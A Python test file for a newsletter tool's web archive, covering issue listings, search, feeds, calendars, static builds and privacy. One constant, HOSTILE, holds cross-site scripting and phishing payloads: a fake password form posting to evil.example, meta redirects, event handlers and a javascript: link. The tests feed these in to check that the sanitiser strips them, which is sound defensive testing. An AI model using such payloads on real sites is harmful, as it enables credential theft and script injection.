"""The public archive: by newsletter serve, and as files."""
import datetime
import html as html_module
import html.parser
import os
import posixpath
import re
import urllib.parse
import xml.etree.ElementTree as ElementTree

import html5lib
import pytest
from conftest import BINARY
from test_enclosures import png
from webserver import WebServer

ATOM = "{http://www.w3.org/2005/Atom}"
SOON = (datetime.date.today() + datetime.timedelta(days=40)).isoformat()


@pytest.fixture
def published(connected):
    """Four issues that went out, one in three languages, one of another list."""
    connected.configure(serve={"url": "https://news.example.org", "check_forms": False})
    connected.add_active(["ann@example.org"], name="Ann Secret")
    connected.write("quay.png", png())

    def send(name, body, **front):
        connected.run("send", "--yes", connected.issue(body, name=name, **front))

    send("a.md", "Dear {{name|reader}}, about ferries.\n\n{{#name}}\nSecret passage\n{{/name}}\n\n"
                 "![Quay](quay.png)\n\n{{email}} [leave]({{unsubscribe_url}})\n",
         title="First <one>", number="No 1", date="2008-08-25", category="General", series="Bulletin",
         posted_by="admin")
    send("b.md", "Rails & “trains”, O'Neill said.\n", title="Second", number="No 2", date="2008-09-01",
         category="Общее", series="Bulletin", posted_by="admin",
         events=[{"title": "Round table", "date": SOON, "time": "09:30", "place": "Aktau"},
                 {"title": "Long past", "date": "2008-09-03"}], timezone="Asia/Almaty")
    connected.issue("Үшінші шығарылым.\n", name="c.kk.md", title="Үшінші", date="2026-08-25")
    connected.issue("Третий выпуск о порте.\n", name="c.ru.md", title="Третий", date="2026-08-25")
    send("c.en.md", "The third about harbours, café.\n", title="Third", number="No 3", date="2026-08-25",
         category="General", events=[{"title": "Round table", "date": SOON}])
    return connected


@pytest.fixture
def web(published):
    server = WebServer(BINARY, published.folder, "--no-mail")
    yield server
    if server.process.poll() is None:
        server.stop()


class Links(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found += [value for name, value in attrs
                       if name in ("href", "src") and not value.startswith(("data:", "mailto:"))]


def titles(page):
    return re.findall(r'<h2><a href="[^"]+">(.*?)</a></h2>', page.text)


@pytest.mark.slow(1)
def test_lists_of_issues(web):
    base = "/archive/bulletin/"
    assert titles(web.get(base)) == ["Third", "Second", "First &lt;one&gt;"]
    assert titles(web.get(base + "2008/")) == ["Second", "First &lt;one&gt;"]
    assert titles(web.get(base + "2008/08/")) == ["First &lt;one&gt;"]
    assert titles(web.get(base + "category/general/")) == ["Third", "First &lt;one&gt;"]
    assert titles(web.get(base + "series/bulletin/")) == ["Second", "First &lt;one&gt;"]
    assert titles(web.get(base + "by/admin/")) == ["Second", "First &lt;one&gt;"]
    index = web.get(base).text
    assert '<a href="2008/">2008</a> (2)' in index and ">Общее</a> (1)" in index
    other = re.search(r'href="(category/[^"]+)">Общее', index).group(1)
    assert titles(web.get(base + other)) == ["Second"]
    assert "<h1>August 2008</h1>" in web.get(base + "2008/08/").text
    assert "Архив" in web.get(base, **{"Accept-Language": "ru"}).text
    assert web.get(base).getheader("Vary") == "Accept-Language, Cookie"


@pytest.mark.first_row_with_postgresql
def test_names_that_differ_in_letters_beyond_ascii(connected):
    """Their addresses differ, too, though both lose those letters."""
    connected.add_active(["ann@example.org"])
    for number, category in enumerate(["Caf\u00e9 news", "Caf\u00e8 news", "Caf news"]):
        connected.run("send", "--yes", connected.issue(name=f"{number}.md", number=f"No {number}", title=f"Issue {number}", category=category))
    server = WebServer(BINARY, connected.folder, "--no-mail")
    try:
        index = server.get("/archive/bulletin/").text
        places = dict(re.findall(r'href="(category/caf-news[^"]*)">([^<]+)', index))
        assert sorted(places.values()) == sorted(["Caf\u00e9 news", "Caf\u00e8 news", "Caf news"])
        assert sorted(titles(server.get(f"/archive/bulletin/{place}"))[0] for place in places) == ["Issue 0", "Issue 1", "Issue 2"]
    finally:
        server.stop()


@pytest.mark.parametrize("path", ["1999/", "2008/07/", "2008/13/", "2008/8/", "category/nosuch/", "category/",
                                  "issue/nosuch/", "issue/bulletin-no-1/xx/", "x/y/z/", "../bulletin/", "//",
                                  "feed.rss", "issue/"])
def test_what_is_not_there(web, path):
    assert web.get("/archive/bulletin/" + path).status == 404


@pytest.mark.slow(1)
def test_the_front_page(web, published):
    page = web.get("/").text
    latest = re.search(r'<article class="latest".*?</article>', page, re.S).group()
    assert ">Third</a></h2>" in latest and "The third about harbours, café." in latest
    assert [title for title in titles(web.get("/")) if title != "Third"] == ["Second", "First &lt;one&gt;"]
    assert 'src="archive/bulletin/issue/bulletin-no-1/image-1.png"' in page
    assert '<a href="archive/bulletin/2008/">2008</a> (2)' in page
    assert "Secret" not in page and "Dear reader" not in page.replace("Dear reader, about ferries.", "")
    russian = web.get("/", **{"Accept-Language": "ru"}).text
    assert ">Третий</a></h2>" in russian and 'href="archive/bulletin/issue/no-3/ru/"' in russian
    form = re.search(r'<form method="post" action="(/join)">.*?</form>', page, re.S)
    assert 'name="list" value="bulletin"' in form.group() and 'name="stamp"' in form.group()
    answer = web.post(form.group(1), {"list": "bulletin", "email": "zoe@example.org"})
    assert "Thank you." in answer.text
    published.run("list", "add", "culture", "--from", "press@example.org", "--title", "Culture letter")
    both = web.get("/").text
    assert both.count('type="checkbox" name="list"') == 2 and "News Bulletin &middot;" in both
    assert "The first issue is still to come" in web.get("/archive/").text


def test_a_front_page_without_anything(bare_site):
    bare_site.run("init")
    bare_site.configure(serve={"url": "https://news.example.org"})
    server = WebServer(BINARY, bare_site.folder, "--no-mail")
    assert "The first issue is still to come" in server.get("/").text
    assert "Nothing has been published yet." in server.get("/archive/").text
    server.stop()


@pytest.mark.slow(1)
def test_the_calendar_of_this_month(web, published):
    today = datetime.date.today()
    published.run("send", "--yes", published.issue("Soon.\n", name="d.md", title="Fourth", number="No 4", events=[
        {"title": "Today's talk", "date": today.isoformat()},
        {"title": "All month", "date": today.replace(day=1).isoformat(), "until": today.isoformat()}]))
    month = re.search(r'<table class="month">.*?</table>', web.get("/").text, re.S).group()
    assert month.count("aria-current") == 1
    cell = re.search(r"<td [^>]*aria-current[^>]*>(.*?)</td>", month, re.S).group(1)
    assert f'href="archive/bulletin/events/#d{today.replace(day=1)}"' in cell or (
        f'href="archive/bulletin/events/#d{today}"' in cell)
    assert "Today&#39;s talk" in cell and "All month" in cell
    assert month.count("<a ") == today.day
    assert f'id="d{today}"' in web.get("/archive/bulletin/events/").text


@pytest.mark.slow(1)
def test_nobody_is_greeted(connected):
    connected.configure(serve={"url": "https://news.example.org"})
    connected.add_active(["ann@example.org"], name="Ann Secret")
    bodies = ["Dear {{name|reader}},\n\nText one.\n", "{{#name}}Dear {{name}},{{/name}}\n\nText one.\n",
              "{{#name}}\nDear {{name}},\n{{/name}}\n\nText one:\n\nText two.\n",
              "{{#name}}\nDear {{name}},\n{{/name}}\n{{^name}}\nDear all!\n{{/name}}\n\nText one.\n",
              "Dear friends,\n\nText one.\n", "Dear {{name|reader}}, text one.\n"]
    kept = ["Dear friends,", "Dear reader, text one."]
    for number, body in enumerate(bodies):
        connected.run("send", "--yes", connected.issue(body, name=f"{number}.md", number=f"No {number}"))
    server = WebServer(BINARY, connected.folder, "--no-mail")
    found = []
    for number in range(len(bodies)):
        text = server.get(f"/archive/bulletin/issue/no-{number}/").text
        assert "ext one" in text and "Secret" not in text
        found += re.findall(r"<p>(Dear .*?)</p>", text)
    server.stop()
    assert found == kept


@pytest.mark.slow(1)
def test_an_issue(web):
    page = web.get("/archive/bulletin/issue/bulletin-no-1/")
    assert '<h1 itemprop="headline">First &lt;one&gt;</h1>' in page.text and "Dear reader, about ferries." in page.text
    assert "Secret" not in page.text and "ann@example.org" not in page.text
    assert re.search(r'<img[^>]* src="image-1.png" alt="Quay">', page.text)
    assert "style=" not in page.text and re.search(r'<time datetime="2008-08-25"[^>]*>25 August 2008</time>', page.text)
    base = "/archive/bulletin/issue/bulletin-no-1/"
    picture = web.raw(f"GET {base}image-1.png HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    head, data = picture.split(b"\r\n\r\n", 1)
    assert data == png() and b"Content-Type: image/png" in head
    for name in ("image-2.png", "image-1.gif", "image-0.png", "image-1.png/"):
        assert web.get(base + name).status == 404
    assert f'src="https://news.example.org{base}image-1.png"' in html_module.unescape(
        web.get("/archive/bulletin/feed.atom").text)
    assert web.get("/archive/bulletin/issue/bulletin-no-1").status == 301


@pytest.mark.slow(1)
def test_languages_of_an_issue(web):
    page = web.get("/archive/bulletin/issue/no-3/").text
    menu = re.search(r'<nav class="languages".*?</nav>', page, re.S).group()
    assert re.findall(r'hreflang="(\w+)"[^>]*>(.*?)<', menu) == [("en", "English"), ("kk", "Қазақша"), ("ru", "Русский")]
    assert re.findall(r'<a [^>]*lang="(\w+)"[^>]*aria-current', menu) == ["en"]
    assert re.sub(r"<[^>]*>|\n", "", menu) == "English &middot;Қазақша &middot;Русский"
    assert menu.count('<span aria-hidden="true">&middot;</span></li>') == 2 and menu.count("<li>") == 3
    russian = web.get("/archive/bulletin/issue/no-3/ru/").text
    assert 'itemtype="https://schema.org/NewsArticle" lang="ru" dir="ltr">' in russian and "Третий выпуск" in russian


@pytest.mark.slow(1)
def test_nothing_leads_nowhere(web):
    seen, todo, anchors = {}, ["/", "/archive/", "/join"], set()
    while todo:
        path, _, anchor = todo.pop().partition("#")
        anchors.add((path, anchor))
        if path in seen:
            continue
        answer = web.get(path)
        seen[path] = answer.text
        assert answer.status == 200, path
        if "html" not in answer.getheader("Content-Type"):
            continue
        html5lib.HTMLParser(strict=True).parse(answer.text)
        for link in Links(answer.text).found:
            where = urllib.parse.urljoin(path, link)
            if where.startswith("/") and "token" not in where and "set-language" not in where:
                todo.append(where)
    assert len(seen) > 18 and "/archive/bulletin/issue/no-3/kk/" in seen
    for path, anchor in anchors:
        assert not anchor or f'id="{anchor}"' in seen[path], (path, anchor)


@pytest.mark.slow(1)
@pytest.mark.parametrize("words, found", [
    ("ferries", ["First &lt;one&gt;"]), ("FERRIES dear", ["First &lt;one&gt;"]), ("ferries trains", []),
    ("порте", ["Third"]), ("шығарылым", ["Third"]), ("cafe", ["Third"]), ("o'neill", ["Second"]),
    ('"', []), ("*", []), ("NEAR( OR NOT", []), ("ferries AND", []), ("title:first", []), ("", []),
    ("first", ["First &lt;one&gt;"]), ("a" * 300, []),
])
def test_search(web, words, found):
    page = web.get("/archive/bulletin/search?" + urllib.parse.urlencode({"q": words}))
    assert page.status == 200 and titles(page) == found
    assert ("No issue contains these words:" in page.text) == (found == [] and words != "")
    assert ("Enter words to search for" in page.text) == (words == "")
    assert (f">{len(found)} issue{'s' * (len(found) != 1)} found<" in page.text) == (found != [])
    assert page.getheader("Cache-Control") == "no-store"
    assert "<script" not in web.get("/archive/bulletin/search?q=%3Cscript%3E").text


@pytest.mark.slow(1)
def test_feed(web):
    answer = web.get("/archive/bulletin/feed.atom")
    assert answer.getheader("Content-Type").startswith("application/atom+xml")
    feed = ElementTree.fromstring(answer.text)
    assert feed.find(ATOM + "id").text.startswith("urn:uuid:")
    entries = feed.findall(ATOM + "entry")
    assert [entry.find(ATOM + "title").text for entry in entries] == [
        "No 3: Third", "No 2: Second", "No 1: First <one>"]
    assert entries[2].find(ATOM + "link").get("href") == (
        "https://news.example.org/archive/bulletin/issue/bulletin-no-1/")
    assert "<p>Dear reader, about ferries.</p>" in entries[2].find(ATOM + "content").text
    assert "Secret" not in answer.text
    updated = [element.text for element in feed.iter(ATOM + "updated")]
    assert updated[0] == max(updated) and all(re.fullmatch(r"[\d-]+T[\d:]+Z", text) for text in updated)


@pytest.mark.slow(1)
def test_events(web):
    page = web.get("/archive/bulletin/events/").text
    assert len(re.findall("<li[^>]*>.*Round table", page)) == 1 and "Long past" not in page
    (day, title, words) = re.search(r'<td><a href="#d([\d-]+)" title="([^"]*)"><span class="hidden">([^<]*)</span>', page).groups()
    assert f'<li id="d{day}"' in page and title == "Round table" and words.endswith(": Round table") and day[:4] in words
    calendar = web.get("/archive/bulletin/events.ics")
    assert calendar.getheader("Content-Type") == "text/calendar; charset=utf-8"
    lines = calendar.text.replace("\r\n ", "").split("\r\n")
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-2] == "END:VCALENDAR"
    assert lines.count("BEGIN:VEVENT") == 3 == lines.count("END:VEVENT")
    assert len({line for line in lines if line.startswith("UID:")}) == 3
    assert any(line.startswith("DTSTART:") and line.endswith("T043000Z") for line in lines)


@pytest.mark.slow(1)
@pytest.mark.one_engine("about SQLite's own files")
def test_what_the_public_may_not_see(web, published):
    published.run("list", "add", "board", "--from", "board@example.org", "--private")
    published.sql("INSERT INTO issue (list, slug, title, subject, date, source, message, digest, state, "
                  "created_at) VALUES (2, 'x', 'Board', 'S', '2026-01-01', 'x', x'0a', 'd', 'sent', 1)")
    for path in ("/archive/", "/", "/join"):
        assert "board" not in web.get(path).text
    assert web.get("/archive/board/").status == 404
    assert web.get("/archive/board/issue/x/").status == 404
    web.post("/join", {"email": "eve@example.org", "list": "board"})
    assert published.sql("SELECT count(*) FROM subscription WHERE list = 2") == [(0,)]
    published.sql("DELETE FROM delivery WHERE issue = (SELECT id FROM issue WHERE slug = 'no-3')")
    for state in ("draft", "scheduled", "paused", "cancelled"):
        published.sql("UPDATE issue SET state = ? WHERE slug = 'no-3'", state)
        assert web.get("/archive/bulletin/issue/no-3/").status == 404
        assert "Third" not in web.get("/archive/bulletin/").text
        assert "Third" not in web.get("/archive/bulletin/feed.atom").text
        assert titles(web.get("/archive/bulletin/search?q=harbours")) == []
    assert "(private)" in published.run("list", "show").out
    published.run("list", "edit", "board", "--public")
    assert web.get("/archive/board/").status == 200


def files_below(folder):
    return {os.path.relpath(os.path.join(path, name), folder)
            for path, _, names in os.walk(folder) for name in names}


@pytest.mark.slow(1)
def test_files(web, published):
    out = published.run("archive", "build", "www/news").out
    folder = os.path.join(published.folder, "www", "news")
    files = files_below(folder)
    files.remove(".newsletter-files")  # which names the others
    assert f"wrote {len(files)} files" in out
    for name in files:  # every link of every page has its file
        if not name.endswith(".html"):
            continue
        text = open(os.path.join(folder, name), encoding="utf-8").read()
        html5lib.HTMLParser(strict=True).parse(text)
        for link in Links(text).found:
            if link.startswith("http"):
                continue
            where = posixpath.normpath(posixpath.join(posixpath.dirname(name), link.partition("#")[0]))
            assert where in files or posixpath.join(where, "index.html") in files or where == ".", (name, link)
        served = web.get("/archive/" + name.replace("index.html", "")).text
        if name.startswith("bulletin/"):  # the same words as those that are served
            main = re.search(r"<main.*</main>", text, re.S).group()
            served = re.sub(r'<form class="search".*?</form>\n', "", served, flags=re.S)  # files answer no search
            served = re.sub(r'<section class="box join invitation".*?</section>\n', "", served, flags=re.S)
            assert main == re.search(r"<main.*</main>", served, re.S).group(), name
    assert "search" not in open(os.path.join(folder, "bulletin/index.html"), encoding="utf-8").read()
    assert open(os.path.join(folder, "bulletin/events.ics"), encoding="utf-8", newline="").read() == \
        web.get("/archive/bulletin/events.ics").text
    with open(os.path.join(folder, "bulletin/issue/bulletin-no-1/image-1.png"), "rb") as picture:
        assert picture.read() == png()
    published.run("archive", "build", "www/news")
    assert files_below(folder) - {".newsletter-files"} == files


def test_files_cannot_be_written(published):
    published.write("www", "a file")
    assert "www" in published.run("archive", "build", "www", expect=74).err
    assert "archive 'what'" in published.run("archive", "what", "x", expect=64).err


def test_issues_from_before_there_was_an_archive(web, published):
    published.sql("UPDATE issue SET body = NULL, language = NULL WHERE slug = 'no-3'")
    page = web.get("/archive/bulletin/issue/no-3/")
    assert page.status == 200 and "The third about harbours" in page.text
    assert web.get("/archive/bulletin/feed.atom").status == 200


def test_scripts_of_raw_html_stay_out(connected):
    """The files may lie on any web server, which sets no policy."""
    connected.configure(raw_html=True)
    connected.add_active(["ann@example.org"])
    connected.run("send", "--yes", connected.issue("Hi.\n\n<SCRIPT src='x'>alert(1)</script >\n\n<div>kept</div>\n\n"
                                                   "a <script>b</script> c <scripted> d\n\n<script>open\n"))
    connected.run("archive", "build", "www")
    page = open(os.path.join(connected.folder, "www", "bulletin", "issue", "no-1", "index.html"), encoding="utf-8").read()
    assert "<script>" not in page.lower() and "<script " not in page.lower() and "alert" not in page
    assert "<div>kept</div>" in page and " c  d" in page and "<scripted>" not in page
    assert "default-src 'none'" in page.split("</head>")[0]


HOSTILE = """<meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<base href="https://evil.example/base"><link rel="stylesheet" href="https://evil.example/link">
<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<p onclick="evil()" style="position:fixed"><a href=" java&#10;script:evil()">one</a> <a href="https://fine.example/">two</a></p>
<img src="https://fine.example/x.png" onerror="evil()" alt="A quay"><svg><script>evil()</script></svg>
<div class="note">kept <b>bold
</main></body></html><plaintext>

After.
"""


def test_raw_html_acts_in_no_browser(connected):
    """The website's own parts stay as they are, whatever an author leaves open; feeds have no policy at all."""
    connected.configure(raw_html=True, serve={"url": "https://news.example.org"})
    connected.add_active(["ann@example.org"])
    connected.run("send", "--yes", "--despite-errors", connected.issue("First.\n\n" + HOSTILE))
    web = WebServer(BINARY, connected.folder, "--no-mail")
    page, feed = web.get("/archive/bulletin/issue/no-1/").text, web.get("/archive/bulletin/feed.json").text
    web.stop()
    body = page.split('<div class="text"')[1].split("</article>")[0]
    for text in (body, feed):
        for bad in ("evil", "<meta", "<base", "<form", "<input", "<iframe", "<object", "<svg", "onclick", "onerror", "<plaintext"):
            assert bad not in text, bad
        for good in ("https://fine.example/", "https://fine.example/x.png", "note", "kept", "two", "After."):
            assert good in text, good
    assert page.index("After.") < page.index('class="colophon"')  # the foot is no part of what was left open
    assert page.count("<main") == page.count("</main>") == 1


def test_pictures_by_address_are_shown(connected):
    connected.configure(serve={"url": "https://news.example.org"})
    connected.add_active(["ann@example.org"])
    connected.run("send", "--yes", connected.issue("Look:\n\n![A quay](https://pictures.example.org/quay.png)\n"))
    web = WebServer(BINARY, connected.folder, "--no-mail")
    for _ in range(2):  # also from the cache
        page = web.get("/archive/bulletin/issue/no-1/")
        assert 'src="https://pictures.example.org/quay.png"' in page.text
        assert "img-src 'self' data: https: http:;" in page.getheader("Content-Security-Policy")
    assert "img-src 'self' data:;" in web.get("/join").getheader("Content-Security-Policy")
    web.stop()
